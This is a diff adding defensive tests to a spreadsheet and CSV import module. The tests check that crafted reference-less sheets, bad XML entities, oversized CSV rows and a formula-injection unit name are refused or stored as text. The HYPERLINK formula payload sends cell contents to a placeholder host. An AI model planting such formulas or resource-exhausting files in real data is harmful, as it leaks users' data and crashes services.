@@ -785,3 +785,74 @@ def test_a_quote_closed_by_a_later_row_is_refused_not_read_as_one_cell(tmp_path)
     with translation.override("vi"), pytest.raises(reading.ReadError) as exc:
         list(open_file(path).rows)
     assert "dòng 3 " in exc.value.text()  # the row as Excel numbers it, not the file's fourth line
+
+
+def _rewrite_sheet(path, change) -> None:
+    """The workbook at `path` with its first sheet's XML passed through `change` (bytes → bytes)."""
+    import zipfile
+
+    with zipfile.ZipFile(path) as source:
+        parts = {info.filename: source.read(info) for info in source.infolist()}
+    parts["xl/worksheets/sheet1.xml"] = change(parts["xl/worksheets/sheet1.xml"])
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, data in parts.items():
+            target.writestr(name, data)
+
+
+def test_rows_and_cells_without_references_bound_the_sheet_by_their_count(tmp_path, monkeypatch):
+    """QA round 15: cells and rows may leave out their reference (r="B2"), and are then placed by counting.
+    The guard read only the references, saw a small sheet, and python-calamine was handed a 14 KB file
+    whose rows and cells made a rectangle of 17 billion cells (the worker died). Without references, the
+    rows and the cells counted bound the sheet, and a large one is streamed by openpyxl."""
+    import re
+
+    path = write_xlsx(tmp_path / "norefs.xlsx", [ROW, ROW])
+    _rewrite_sheet(path, lambda xml: re.sub(rb' r="[A-Z]*[0-9]+"', b"", xml))
+    with open(path, "rb") as fh:
+        marks = reading._sheet_marks(fh, "Danh sách")
+    assert (marks.last_row, marks.last_column) == (3, 3 * 9 - 1)  # 3 rows, 27 cells: at most 3 × 27
+    assert [cells for _number, cells in open_file(path).rows] == [ROW, ROW]  # read as before
+    streamed = []
+    monkeypatch.setattr(reading, "CALAMINE_MAX_CELLS", 3 * 27 - 1)
+    monkeypatch.setattr(
+        reading, "_read_excel_openpyxl", lambda fh: streamed.append(fh) or reading.Table({}, {}, [], 1, 0, iter([]))
+    )
+    open_file(path)
+    assert streamed  # beyond the limit: not python-calamine
+    with open(write_xlsx(tmp_path / "refs.xlsx", [ROW, ROW]), "rb") as fh:  # as every program writes it
+        marks = reading._sheet_marks(fh, "Danh sách")
+    assert (marks.last_row, marks.last_column) == (3, 25)
+
+
+@pytest.mark.parametrize("entity", [b"&nbsp;", b"&undefined;"])
+def test_a_sheet_the_xml_reader_refuses_is_a_clear_error(tmp_path, entity):
+    """QA round 15: python-calamine's errors on a sheet (not on the workbook) ended the import as an
+    'unexpected error', logged with a traceback."""
+    path = write_xlsx(tmp_path / "bad.xlsx", [ROW])
+    _rewrite_sheet(path, lambda xml: xml.replace("Nguyễn Văn An".encode(), b"Nguy" + entity))
+    with translation.override("vi"), pytest.raises(reading.ReadError) as exc:
+        list(open_file(path).rows)
+    assert exc.value.text().startswith("Không đọc được tệp Excel")
+
+
+def test_a_csv_row_of_a_million_characters_is_refused_and_columns_beyond_256_are_ignored(tmp_path):
+    """QA round 15: a 16 MB CSV of four million empty columns took 3 GB and made an error workbook Excel
+    cannot open (columns after XFD)."""
+    path = tmp_path / "wide.csv"
+    path.write_text(",".join(HEADERS) + ",a" * 600_000 + "\n" + ",".join(ROW) + "\n", encoding="utf-8")
+    with translation.override("vi"), pytest.raises(reading.ReadError) as exc:
+        list(open_file(path).rows)
+    assert "Dòng 1" in exc.value.text() and "1.000.000" in exc.value.text()
+    path.write_text(";".join([*HEADERS, *["x"] * 300]) + "\n" + ";".join([*ROW, *["y"] * 300]) + "\n", encoding="utf-8")
+    table = open_file(path)
+    assert len(table.unknown) == reading.MAX_COLUMNS - len(HEADERS) and list(table.rows) == [(2, ROW)]
+
+
+def test_a_unit_name_starting_with_an_equals_sign_is_text_in_the_template():
+    """QA round 15: openpyxl wrote it as a live formula (=HYPERLINK(…)) in the hidden list sheet."""
+    from kynangso.people.imports.workbooks import template_workbook
+
+    name = '=HYPERLINK("http://example.com/?"&A1,"Trường")'
+    wb = load_workbook(template_workbook(organisations=[("X-A", name)]))
+    cell = wb["Danh mục"]["D1"]
+    assert (cell.value, cell.data_type) == (name, "s")
